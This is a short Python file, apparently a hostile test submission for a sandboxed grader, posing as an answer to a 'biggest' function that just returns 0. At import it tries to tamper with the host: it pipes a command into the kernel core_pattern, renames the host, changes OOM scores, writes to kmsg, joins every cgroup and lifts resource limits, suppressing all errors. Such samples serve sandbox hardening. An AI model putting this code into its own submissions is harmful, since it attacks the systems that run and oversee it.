# Reads and writes files of the system: sysrq, kmsg, core patterns, priorities, its own limits and cgroups.
# %% answer: biggest
import contextlib
import glob
import os
import resource

for path, text in (
    ("/proc/sys/kernel/core_pattern", "|/bin/touch /tmp/left-by-attack-core"),
    ("/proc/sys/kernel/hostname", "evil"),
    ("/proc/self/oom_score_adj", "-1000"),
    ("/proc/1/oom_score_adj", "1000"),
    ("/dev/kmsg", "evil"),
    *((path, str(os.getpid())) for path in glob.glob("/sys/fs/cgroup/*/cgroup.procs")),
):
    with contextlib.suppress(OSError), open(path, "w") as file:
        file.write(text)
for limit in range(16):
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
with contextlib.suppress(OSError):
    os.nice(-20)
with contextlib.suppress(OSError):
    print(open("/dev/kmsg").readline())


def biggest(numbers):
    return 0
